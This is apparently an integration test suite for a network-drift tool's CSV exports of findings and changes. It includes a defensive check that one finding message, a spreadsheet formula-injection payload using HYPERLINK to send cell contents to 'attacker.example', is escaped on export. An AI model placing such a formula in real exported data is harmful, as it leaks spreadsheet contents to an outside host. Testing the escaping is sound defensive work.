import type { INestApplication } from '@nestjs/common';
import request from 'supertest';
import { DataSource } from 'typeorm';

import type {
  ChangeFeedResponseDto,
  FindingListResponseDto,
  FindingResponseDto,
} from '@driftwatch/application';
import { waitFor } from '@driftwatch/test/services';
import {
  createHttpApp,
  createTestEnvironment,
  httpServer,
  keysForRoles,
  type TestEnvironment,
  textBody,
} from '@driftwatch/test/test-app';
import { openPortsXml } from '@driftwatch/test/nmap-xml';

/** nmap XML for hosts of the documentation range 192.0.2.0/24, started at `start` (epoch seconds). */
function nmapXml(start: number, hosts: { addr: string; ports: [number, string][] }[]): string {
  return openPortsXml(hosts, start);
}

/** A strict RFC 4180 reader, written here so the test does not trust the writer it checks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') {
      if (cell !== '') throw new Error(`a quote inside an unquoted field, record ${rows.length + 1}`);
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (c === '\n' || c === '\r') {
      throw new Error(`a bare line break outside quotes, record ${rows.length + 1}`);
    } else cell += c;
  }
  if (quoted || cell !== '' || row.length > 0) throw new Error('the file does not end with CRLF');
  return rows;
}

/** Header row + records, as objects keyed by the header. */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => {
    expect(r).toHaveLength(header.length);
    return Object.fromEntries(header.map((h, i) => [h, r[i]]));
  });
}

/** How the export writes a text cell a spreadsheet would run as a formula. */
const neutral = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

const T1 = 1_790_000_000;
const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")';
/** More than two database batches of 500. */
const BULK = 1_050;

/**
 * GET /exports/findings.csv and /exports/changes.csv: a scope gets real findings and changes
 * from two nmap imports, plus findings inserted in SQL for volume (more rows than one batch)
 * and one whose message is a spreadsheet formula, which no policy message can produce.
 */
describe('CSV exports of findings and changes', () => {
  let env: TestEnvironment;
  let app: INestApplication;
  let keys: Record<'scanner' | 'analyst' | 'auditor', string>;
  let scopeId: string;

  const http = () => request(httpServer(app));
  const as = (key: string) => ({ Authorization: `Bearer ${key}` });

  async function importXml(xml: string): Promise<string> {
    const res = await http()
      .post(`/api/v1/scopes/${scopeId}/snapshots`)
      .set(as(keys.scanner))
      .set('Content-Type', 'application/xml')
      .send(xml)
      .expect(201);
    const { scanId, snapshotId } = res.body as { scanId: string; snapshotId: string };
    await waitFor(`import ${scanId} to be evaluated`, async () => {
      const scan = (await http().get(`/api/v1/scans/${scanId}`).set(as(keys.analyst))).body as {
        status: string;
      };
      return scan.status === 'completed' ? true : undefined;
    });
    return snapshotId;
  }

  /** Every finding GET /findings serves for `query`, walking its keyset pages. */
  async function allFindings(query: Record<string, unknown>): Promise<FindingResponseDto[]> {
    const rows: FindingResponseDto[] = [];
    let cursor: string | null = null;
    do {
      const body = (
        await http()
          .get('/api/v1/findings')
          .query({ ...query, limit: 500, ...(cursor ? { cursor } : {}) })
          .set(as(keys.auditor))
          .expect(200)
      ).body as FindingListResponseDto;
      rows.push(...body.items);
      cursor = body.nextCursor;
    } while (cursor);
    return rows;
  }

  const download = (path: string, query: Record<string, unknown>) =>
    http().get(path).query(query).set(as(keys.auditor)).buffer(true).parse(textBody);

  beforeAll(async () => {
    env = await createTestEnvironment({ SCAN_ALLOWED_NETWORKS: '127.0.0.0/8,192.0.2.0/24' });
    app = await createHttpApp(env.config, 'standalone');
    keys = await keysForRoles(app, ['scanner', 'analyst', 'auditor']);
    const scope = await http()
      .post('/api/v1/scopes')
      .set(as(keys.analyst))
      .send({ name: 'exported', targets: ['192.0.2.0/28'], ports: [21, 22, 23, 80], approvedPorts: [22] })
      .expect(201);
    scopeId = (scope.body as { id: string }).id;
    await importXml(
      nmapXml(T1, [
        {
          addr: '192.0.2.5',
          ports: [
            [23, 'telnet'],
            [22, 'ssh'],
          ],
        },
        { addr: '192.0.2.6', ports: [[21, 'ftp']] },
      ]),
    );
    const snapshotId = await importXml(
      nmapXml(T1 + 3600, [
        {
          addr: '192.0.2.5',
          ports: [
            [22, 'ssh'],
            [80, 'http'],
          ],
        },
        { addr: '192.0.2.7', ports: [[21, 'ftp']] },
      ]),
    );
    await app.get(DataSource).query(
      `INSERT INTO findings (scope_id, fingerprint, rule_id, title, requirements, severity, asset, subject, message,
         evidence, status, first_seen_at, last_seen_at, first_snapshot_id, last_snapshot_id, policy_version)
       SELECT $1, 'bulk-' || g, 'test.bulk', 'bulk finding', ARRAY['PCI DSS v4.0.1 2.2.7', 'PCI DSS v4.0.1 1.2.5'],
         (ARRAY['high', 'low'])[1 + g % 2], '192.0.2.' || (1 + g % 14), 'tcp/' || (1000 + g),
         CASE WHEN g = 7 THEN $3 ELSE 'port ' || g || ', "quoted", with comma' END, '{}', 'open',
         '2026-10-01T00:00:00Z'::timestamptz + g * interval '1 second',
         '2026-10-02T00:00:00Z'::timestamptz + (g % 5) * interval '1 minute', $2, $2, 'test'
       FROM generate_series(1, $4::int) AS g`,
      [scopeId, snapshotId, FORMULA, BULK],
    );
  });

  afterAll(async () => {
    await app?.close();
    await env?.cleanup();
  });

  it('serves every finding of a scope as a CSV attachment, row for row as GET /findings serves them', async () => {
    const res = await download('/api/v1/exports/findings.csv', { scope: scopeId });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="findings.csv"');
    const text = res.body as string;
    expect(text.split('\r\n')[0]).toBe(
      'id,scope_id,rule_id,requirements,severity,status,asset,subject,message,first_failed_at,last_seen_at,resolved_at,baseline_status',
    );

    const json = await allFindings({ scope: scopeId });
    expect(json.length).toBeGreaterThan(BULK);
    expect(json.filter((f) => f.ruleId !== 'test.bulk').length).toBeGreaterThanOrEqual(3);
    expect(records(text)).toEqual(
      json.map((f) => ({
        id: f.id,
        scope_id: f.scopeId,
        rule_id: f.ruleId,
        requirements: f.requirements.join('; '),
        severity: f.severity,
        status: f.status,
        asset: f.asset,
        subject: f.subject,
        message: neutral(f.message),
        first_failed_at: f.firstFailedAt,
        last_seen_at: f.lastSeenAt,
        resolved_at: f.resolvedAt ?? '',
        baseline_status: f.baseline?.status ?? '',
      })),
    );
  });

  it('escapes a cell a spreadsheet would run as a formula', async () => {
    const text = (await download('/api/v1/exports/findings.csv', { scope: scopeId }).expect(200))
      .body as string;
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""click me"")"`);
    const row = records(text).find((r) => r.subject === 'tcp/1007');
    expect(row?.message).toBe(`'${FORMULA}`);
    const cells = records(text).flatMap((r) => Object.values(r));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('applies the filters and the sort of GET /findings', async () => {
    const query = { scope: scopeId, severity: 'high', status: 'open', sort: 'firstFailedAt' };
    const text = (await download('/api/v1/exports/findings.csv', query).expect(200)).body as string;
    const ids = records(text).map((r) => r.id);
    const json = await allFindings(query);
    expect(json.every((f) => f.severity === 'high')).toBe(true);
    expect(ids).toEqual(json.map((f) => f.id));
  });

  it('serves an empty export as just the header', async () => {
    const text = (
      await download('/api/v1/exports/findings.csv', {
        scope: scopeId,
        firstFailedFrom: '2001-01-01T00:00:00Z',
        firstFailedTo: '2001-01-02T00:00:00Z',
      }).expect(200)
    ).body as string;
    expect(parseCsv(text)).toHaveLength(1);
  });

  it("serves a scope's drift changes as CSV, row for row as the changes feed serves them", async () => {
    const res = await download('/api/v1/exports/changes.csv', { scope: scopeId });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="changes-${scopeId}.csv"`);
    const feed = (
      await http()
        .get('/api/v1/changes')
        .query({ scope: scopeId, limit: 500 })
        .set(as(keys.auditor))
        .expect(200)
    ).body as ChangeFeedResponseDto;
    expect(feed.nextCursor).toBeNull();
    expect(feed.items.length).toBeGreaterThanOrEqual(3);
    const rows = records(res.body as string);
    expect(rows.map((r) => [r.detected_at, r.type, r.address, r.protocol, r.port])).toEqual(
      feed.items.map((c) => [
        c.detectedAt,
        c.type,
        c.address,
        c.protocol ?? '',
        c.port === null ? '' : String(c.port),
      ]),
    );
    expect(rows.every((r) => r.scope_id === scopeId)).toBe(true);
    for (const [i, r] of rows.entries()) {
      const c = feed.items[i];
      expect(r.before === '' ? null : JSON.parse(r.before)).toEqual(c.before ?? null);
      expect(r.after === '' ? null : JSON.parse(r.after)).toEqual(c.after ?? null);
    }
  });

  it('limits changes to since < detectedAt ≤ until', async () => {
    const all = records(
      (await download('/api/v1/exports/changes.csv', { scope: scopeId }).expect(200)).body as string,
    );
    const last = all[all.length - 1].detected_at;
    const text = (
      await download('/api/v1/exports/changes.csv', {
        scope: scopeId,
        until: last,
        since: '2020-01-01T00:00:00Z',
      }).expect(200)
    ).body as string;
    expect(records(text)).toHaveLength(all.length);
    const after = (await download('/api/v1/exports/changes.csv', { scope: scopeId, since: last }).expect(200))
      .body as string;
    expect(records(after)).toEqual([]);
  });

  it.each([
    ['/api/v1/exports/findings.csv', { severity: 'urgent' }, 'severity'],
    ['/api/v1/exports/findings.csv', { scope: 'not-a-uuid' }, 'scope'],
    ['/api/v1/exports/findings.csv', { limit: '5' }, 'limit'],
    [
      '/api/v1/exports/findings.csv',
      { firstFailedFrom: '2026-02-01T00:00:00Z', firstFailedTo: '2026-01-01T00:00:00Z' },
      'firstFailedTo',
    ],
    ['/api/v1/exports/changes.csv', {}, 'scope'],
    [
      '/api/v1/exports/changes.csv',
      { scope: '00000000-0000-4000-8000-000000000000', since: 'yesterday' },
      'since',
    ],
    [
      '/api/v1/exports/changes.csv',
      { scope: '00000000-0000-4000-8000-000000000000', kind: 'nonsense' },
      'kind',
    ],
  ])('refuses %s with %j as 400 naming %s', async (path, query, field) => {
    const res = await http().get(path).query(query).set(as(keys.auditor));
    expect(res.status).toBe(400);
    expect((res.body as { fields: { field: string }[] }).fields.map((f) => f.field)).toContain(field);
  });

  it('refuses until before since, and an unknown scope as 404', async () => {
    const bad = await http()
      .get('/api/v1/exports/changes.csv')
      .query({ scope: scopeId, since: '2026-02-01T00:00:00Z', until: '2026-01-01T00:00:00Z' })
      .set(as(keys.auditor));
    expect(bad.status).toBe(400);
    expect((bad.body as { fields: { field: string }[] }).fields.map((f) => f.field)).toEqual(['until']);
    const missing = await http()
      .get('/api/v1/exports/changes.csv')
      .query({ scope: '00000000-0000-4000-8000-000000000000' })
      .set(as(keys.auditor));
    expect(missing.status).toBe(404);
  });
});
